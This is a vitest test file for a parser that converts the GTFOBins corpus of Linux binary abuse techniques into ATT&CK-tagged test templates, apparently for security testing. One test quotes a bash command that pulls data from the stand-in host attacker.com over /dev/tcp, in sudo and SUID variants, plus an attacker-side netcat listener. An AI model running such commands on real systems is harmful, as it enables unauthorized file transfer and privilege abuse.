import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { readFolder } from '../archive';
import type { AdapterResult, SourceFile, TestTemplateItem } from '../types';
import { parseGtfobins } from './gtfobins';
import { ATTACK_ID } from './upstream';

const ROOT = resolve(
  fileURLToPath(new URL('.', import.meta.url)),
  '../../../../../../../shared/data/gtfobins',
);

/**
 * Counted without YAML: `functions:` maps each function at two spaces to a list whose items start at two
 * spaces with `- `; alias entries are a single `alias:` line.
 */
function countByLines(): { entries: number; aliases: number; examples: number } {
  const base = join(ROOT, '_gtfobins');
  let entries = 0;
  let aliases = 0;
  let examples = 0;
  for (const name of readdirSync(base)) {
    const text = readFileSync(join(base, name), 'utf8');
    entries += 1;
    if (/^alias:/m.test(text)) aliases += 1;
    examples += text.match(/^ {2}- /gm)?.length ?? 0;
  }
  return { entries, aliases, examples };
}

const file = (path: string, text: string): SourceFile => ({ path, content: Buffer.from(text) });

describe('parseGtfobins on the real corpus', () => {
  let files: SourceFile[];
  let result: AdapterResult<TestTemplateItem>;

  beforeAll(async () => {
    files = await readFolder(ROOT);
    result = parseGtfobins(files);
  });

  it('makes one template per example, skipping aliases without calling them errors', () => {
    const expected = countByLines();
    expect(expected).toEqual({ entries: 478, aliases: 20, examples: 822 });
    expect(result.errors).toEqual([]);
    expect(result.items).toHaveLength(expected.examples);
    expect(new Set(result.items.map((i) => i.sourceId)).size).toBe(expected.examples);
    expect(new Set(result.items.map((i) => i.path)).size).toBe(expected.entries - expected.aliases);
  });

  it('gives every template valid ATT&CK ids: its own, the function default, or inherited', () => {
    for (const item of result.items) {
      expect(item.attackIds.length).toBeGreaterThan(0);
      for (const id of item.attackIds) expect(id).toMatch(ATTACK_ID);
      expect(item.sourceId).toMatch(/^gtfobins:[^:]+:[a-z-]+:\d+$/);
      expect(item.platforms).toEqual(['linux']);
    }
    const fileRead = result.items.filter((i) => i.sourceId.includes(':file-read:'));
    expect(fileRead.length).toBeGreaterThan(100);
    for (const item of fileRead) expect(item.attackIds).toEqual(['T1005']);
    expect(result.items.find((i) => i.sourceId === 'gtfobins:nc:reverse-shell:0')?.attackIds).toEqual([
      'T1059',
      'T1071',
    ]);
  });

  it('maps `inherit` to the techniques of the binary it inherits from', () => {
    // man → less: less has command, file-read, file-write, shell (and itself inherits from vi).
    const man = result.items.find((i) => i.sourceId === 'gtfobins:man:inherit:0');
    expect(man).toMatchObject({ command: 'man man', attackIds: ['T1005', 'T1059', 'T1565'] });
    expect(man?.description).toContain('`less`');
    const fromLines = readdirSync(join(ROOT, '_gtfobins')).reduce(
      (n, name) =>
        n + (readFileSync(join(ROOT, '_gtfobins', name), 'utf8').match(/^ {4}from: /gm)?.length ?? 0),
      0,
    );
    expect(fromLines).toBe(80);
    expect(result.items.filter((i) => i.sourceId.includes(':inherit:'))).toHaveLength(fromLines);
  });

  it('maps a known example field by field, with a context of its own (bash download, SUID)', () => {
    const item = result.items.find((i) => i.sourceId === 'gtfobins:bash:download:1');
    expect(item).toMatchObject({
      source: 'gtfobins',
      name: 'bash: Download #2',
      attackIds: ['T1105'],
      executor: 'sh',
      command: `bash -c 'echo "$(</dev/tcp/attacker.com/12345) >/path/to/output-file'`,
      elevationRequired: false,
      path: '_gtfobins/bash',
      url: 'https://gtfobins.github.io/gtfobins/bash/',
    });
    expect(item?.variants?.map((v) => [v.label, v.command])).toEqual([
      ['sudo', `bash -c 'echo "$(</dev/tcp/attacker.com/12345) >/path/to/output-file'`],
      ['suid', `bash -p -c 'echo "$(</dev/tcp/attacker.com/12345) >/path/to/output-file'`],
      ['unprivileged', `bash -c 'echo "$(</dev/tcp/attacker.com/12345) >/path/to/output-file'`],
    ]);
    expect(item?.description).toContain('This executable can download remote data.');
    expect(item?.description).toContain('Attacker side (sender): A TCP server can be used');
    expect(item?.description).toContain('nc -l -p 12345 </path/to/input-file');
  });

  it('requires elevation only for examples without the unprivileged context', () => {
    const privileged = result.items.filter((i) => i.elevationRequired);
    expect(privileged.length).toBeGreaterThan(0);
    for (const item of privileged) expect(item.description).not.toMatch(/Contexts: .*unprivileged/);
  });
});

describe('parseGtfobins with broken files', () => {
  const functions = file(
    '_data/functions.yml',
    'shell:\n  label: Shell\n  description: Spawns a shell.\n  mitre:\n  - T1059\n',
  );
  const entry = (code: string) =>
    `---\nfunctions:\n  shell:\n  - code: ${code}\n    contexts:\n      sudo:\n      unprivileged:\n...\n`;

  it('reports a broken entry and carries on with the rest', () => {
    const result = parseGtfobins([
      functions,
      file('_gtfobins/good', entry('good')),
      file('_gtfobins/broken', '---\nfunctions:\n  shell: [\n...\n'),
      file('_gtfobins/nocode', '---\nfunctions:\n  shell:\n  - comment: no code\n...\n'),
      file('_gtfobins/other', '---\nalias: good\n...\n'),
      file('_gtfobins/badmitre', entry('x').replace('    contexts:', '    mitre: [X1]\n    contexts:')),
    ]);
    expect(result.items.map((i) => i.sourceId)).toEqual(['gtfobins:good:shell:0']);
    expect(result.items[0]).toMatchObject({ attackIds: ['T1059'], elevationRequired: false });
    expect(result.errors.map((e) => e.path)).toEqual([
      '_gtfobins/broken',
      '_gtfobins/nocode',
      '_gtfobins/badmitre',
    ]);
    expect(result.errors[1]?.message).toMatch(/^functions\.shell\.0\.code: /);
  });

  it('says so when functions.yml is missing, and reports examples left without techniques', () => {
    const result = parseGtfobins([file('_gtfobins/good', entry('good'))]);
    expect(result.items).toEqual([]);
    expect(result.errors.map((e) => e.path)).toEqual(['_data/functions.yml', '_gtfobins/good']);
    expect(result.errors[1]?.message).toContain('no ATT&CK technique');
  });

  it('uses the ids an example carries itself before the function default', () => {
    const own = entry('own').replace('    contexts:', '    mitre:\n    - T1059.004\n    contexts:');
    const result = parseGtfobins([functions, file('_gtfobins/own', own)]);
    expect(result.items[0]?.attackIds).toEqual(['T1059.004']);
    expect(result.attackIds).toEqual(['T1059.004']);
  });
});
